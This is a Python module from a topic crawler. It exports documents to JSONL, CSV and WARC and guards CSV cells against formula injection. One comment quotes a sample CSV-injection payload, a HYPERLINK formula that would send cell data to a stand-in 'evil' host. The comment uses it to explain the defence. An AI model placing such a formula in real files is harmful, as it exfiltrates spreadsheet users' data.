"""Export of search results and documents as JSON lines or CSV, and of crawled pages as WARC (ISO 28500).

The repository keeps a page's extracted title and text, not the raw HTTP response, so a page becomes a WARC
`resource` record (the text, `text/plain`) at its URL and fetch date, followed by a `metadata` record
(JSON: title, topic, confidence, verdict, origins, status, content type) tied to it by
WARC-Concurrent-To; any WARC tool (warcio, pywb) reads them.
"""

from __future__ import annotations

import csv
import io
import json
import os
from collections.abc import Iterable, Iterator, Mapping
from contextlib import contextmanager
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, BinaryIO, TextIO

from warcio.warcwriter import WARCWriter

from crawler.errors import CrawlerError
from crawler.ranking import topic_clause
from crawler.repository import Repository

FORMATS = ("jsonl", "csv", "warc")
_TEXT = {"encoding": "utf-8", "newline": ""}
_SOFTWARE = "topicswarm"


class ExportError(CrawlerError):
    """An export that cannot be written (unknown format, unwritable file)."""


def document_rows(
    repo: Repository, topic: str | None = None, ids: Iterable[int] | None = None
) -> Iterator[dict]:
    """Stored originals as export rows (doc_id, url, title, topic, ...), optionally of one topic's subtree
    or of given ids (in that order)."""
    for doc in _documents(repo, topic, ids):
        yield {
            "doc_id": doc["id"],
            "url": doc["url"],
            "title": doc["title"],
            "topic": doc["topic"],
            "confidence": doc["confidence"],
            "verdict": doc["verdict"],
            "origin": doc["origin"] or "local",
            "origins": list(dict.fromkeys([doc["origin"] or "local", *doc["origins"]])),
            "fetched_at": doc["fetched_at"],
        }


def _documents(repo: Repository, topic: str | None, ids: Iterable[int] | None) -> Iterator[dict[str, Any]]:
    if ids is not None:
        for doc_id in ids:
            doc = repo.document(int(doc_id))
            if doc is not None:
                yield doc
        return
    where, params = "duplicate_of IS NULL", []
    if topic is not None:
        clause, params = topic_clause("topic", topic, descendants=True)
        where += f" AND {clause}"
    yield from repo.documents(where, params)


def write_jsonl(rows: Iterable[Mapping[str, Any]], out: TextIO) -> int:
    count = 0
    for row in rows:
        out.write(json.dumps(row, ensure_ascii=False, sort_keys=False) + "\n")
        count += 1
    return count


def write_csv(rows: Iterable[Mapping[str, Any]], out: TextIO) -> int:
    """CSV with a header from the first row; lists and mappings as JSON inside their cell."""
    writer: csv.DictWriter | None = None
    count = 0
    for row in rows:
        if writer is None:
            writer = csv.DictWriter(out, fieldnames=list(row), extrasaction="ignore")
            writer.writeheader()
        writer.writerow({k: _csv_cell(v) for k, v in row.items()})
        count += 1
    return count


# A cell a spreadsheet would run as a formula (OWASP's CSV injection): titles and text come from pages,
# and a hostile page titled `=HYPERLINK("http://evil/?"&A1, "x")` would run when the export is opened.
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _csv_cell(value: Any) -> Any:
    """A value as its cell: lists and mappings as JSON, text a spreadsheet would read as a formula
    behind a quote (OWASP's advice), so it shows as the text it is."""
    if isinstance(value, list | dict):
        return json.dumps(value)
    if isinstance(value, str) and value.startswith(_FORMULA_STARTS):
        return "'" + value
    return value


def write_warc(docs: Iterable[Mapping[str, Any]], out: BinaryIO, gzip: bool = True) -> int:
    """One resource record (the page's text) and one metadata record per document; returns pages written."""
    writer = WARCWriter(out, gzip=gzip)
    info = writer.create_warcinfo_record(
        "topicswarm-export.warc", {"software": _SOFTWARE, "format": "WARC/1.1"}
    )
    writer.write_record(info)
    count = 0
    for doc in docs:
        date = _warc_date(doc["fetched_at"])
        body = doc["text"].encode("utf-8")
        resource = writer.create_warc_record(
            doc["url"],
            "resource",
            payload=io.BytesIO(body),
            length=len(body),  # a known length spares warcio a temporary buffer
            warc_content_type="text/plain; charset=utf-8",
            warc_headers_dict={"WARC-Date": date},
        )
        writer.write_record(resource)
        meta = {
            "title": doc["title"],
            "final_url": doc["final_url"],
            "status": doc["status"],
            "content_type": doc["content_type"],
            "topic": doc["topic"],
            "confidence": doc["confidence"],
            "verdict": doc.get("verdict"),
            "origin": doc.get("origin") or "local",
            "origins": list(doc.get("origins") or ()),
        }
        meta_body = json.dumps(meta, ensure_ascii=False).encode("utf-8")
        metadata = writer.create_warc_record(
            doc["url"],
            "metadata",
            payload=io.BytesIO(meta_body),
            length=len(meta_body),
            warc_content_type="application/json",
            warc_headers_dict={
                "WARC-Date": date,
                "WARC-Concurrent-To": resource.rec_headers.get_header("WARC-Record-ID"),
            },
        )
        writer.write_record(metadata)
        count += 1
    return count


def _warc_date(timestamp: float) -> str:
    return datetime.fromtimestamp(float(timestamp), UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


def export(
    repo: Repository,
    path: Path | str,
    fmt: str,
    *,
    topic: str | None = None,
    ids: Iterable[int] | None = None,
    rows: Iterable[Mapping[str, Any]] | None = None,
) -> int:
    """Write `rows` (e.g. search hits in API form) or the selected documents to `path` in `fmt`."""
    if fmt not in FORMATS:
        raise ExportError(f"unknown export format {fmt!r}: use one of {', '.join(FORMATS)}")
    path = Path(path)
    try:
        if fmt == "warc":
            with _written_whole(path, binary=True) as out:
                return write_warc(_documents(repo, topic, ids), out, gzip=path.suffix == ".gz")
        selected = rows if rows is not None else document_rows(repo, topic, ids)
        with _written_whole(path, binary=False) as out:
            return write_jsonl(selected, out) if fmt == "jsonl" else write_csv(selected, out)
    except OSError as exc:
        raise ExportError(f"cannot write {path}: {exc.strerror or exc}") from exc


@contextmanager
def _written_whole(path: Path, *, binary: bool) -> Iterator[Any]:
    """A file that takes `path`'s name only once written whole: an export stopped by a full disk, a damaged
    repository page or Ctrl-C leaves the previous file of that name as it was, and no truncated one. A
    path that is no regular file (`/dev/stdout`, a pipe) is written directly."""
    mode, text = ("wb", {}) if binary else ("w", _TEXT)
    if path.exists() and not path.is_file():
        with path.open(mode, **text) as out:
            yield out
        return
    partial = path.with_name(path.name + ".partial")
    try:
        with partial.open(mode, **text) as out:
            yield out
        os.replace(partial, path)
    finally:
        partial.unlink(missing_ok=True)
